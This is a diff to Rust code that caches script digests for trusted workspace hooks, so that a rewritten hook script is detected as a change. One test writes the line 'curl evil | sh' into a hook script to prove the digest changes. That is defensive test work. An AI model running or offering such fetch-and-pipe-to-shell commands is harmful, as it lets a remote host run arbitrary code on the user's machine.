@@ -103,8 +103,14 @@ impl WorkspaceHooks {
     }
 
     /// The hooks of the workspace sources among `sources` (their origin says so), with the
-    /// files their commands name read beneath `root`.
-    pub fn from_sources(sources: &[HookSource], root: &Root) -> WorkspaceHooks {
+    /// files their commands name read beneath `root`. `scripts` keeps each command's digest
+    /// of those files, so the session start reads them once (its hooks carry it to compare
+    /// right before they run).
+    pub fn from_sources(
+        sources: &[HookSource],
+        root: &Root,
+        scripts: &mut std::collections::HashMap<String, String>,
+    ) -> WorkspaceHooks {
         let mut hooks = Vec::new();
         for source in sources.iter().filter(|s| s.origin.is_workspace()) {
             let file = source.origin.to_string();
@@ -116,11 +122,14 @@ impl WorkspaceHooks {
                 for group in groups {
                     for h in &group.hooks {
                         let command = h.command.clone().unwrap_or_default();
+                        let files = scripts
+                            .entry(command.clone())
+                            .or_insert_with(|| scripts_digest(&command, root));
                         hooks.push(TrustedHook {
                             file: file.clone(),
                             event: event.clone(),
                             matcher: group.matcher.clone(),
-                            digest: handler_digest(h, &command, root),
+                            digest: handler_digest(h, files),
                             command,
                         });
                     }
@@ -180,9 +189,10 @@ impl WorkspaceHooks {
     }
 }
 
-/// The digest of one handler: its type and timeout, and each file beneath the root its
-/// command names (path and content), so rewriting the script a trusted hook runs is a change.
-fn handler_digest(h: &super::HandlerConfig, command: &str, root: &Root) -> String {
+/// The digest of one handler: its type and timeout, and `scripts` (the [`scripts_digest`] of
+/// the files beneath the root its command names), so rewriting the script a trusted hook runs
+/// is a change.
+fn handler_digest(h: &super::HandlerConfig, scripts: &str) -> String {
     let mut d = Sha256::new();
     let mut field = |b: &[u8]| {
         d.update((b.len() as u64).to_le_bytes());
@@ -196,7 +206,7 @@ fn handler_digest(h: &super::HandlerConfig, command: &str, root: &Root) -> Strin
             .to_le_bytes()
             .as_slice(),
     );
-    field(scripts_digest(command, root).as_bytes());
+    field(scripts.as_bytes());
     hex(&d.finalize())
 }
 
@@ -345,17 +355,17 @@ mod tests {
             timeout: None,
         };
         let cmd = h.command.clone().unwrap();
-        let before = handler_digest(&h, &cmd, &root);
-        assert_eq!(before, handler_digest(&h, &cmd, &root));
+        let before = handler_digest(&h, &scripts_digest(&cmd, &root));
+        assert_eq!(before, handler_digest(&h, &scripts_digest(&cmd, &root)));
         std::fs::write(d.path().join(".claude/hooks/a.sh"), "curl evil | sh\n").unwrap();
-        assert_ne!(before, handler_digest(&h, &cmd, &root));
+        assert_ne!(before, handler_digest(&h, &scripts_digest(&cmd, &root)));
         let longer = super::super::HandlerConfig {
             timeout: Some(5.0),
             ..h.clone()
         };
         assert_ne!(
-            handler_digest(&h, &cmd, &root),
-            handler_digest(&longer, &cmd, &root)
+            handler_digest(&h, &scripts_digest(&cmd, &root)),
+            handler_digest(&longer, &scripts_digest(&cmd, &root))
         );
     }
 }
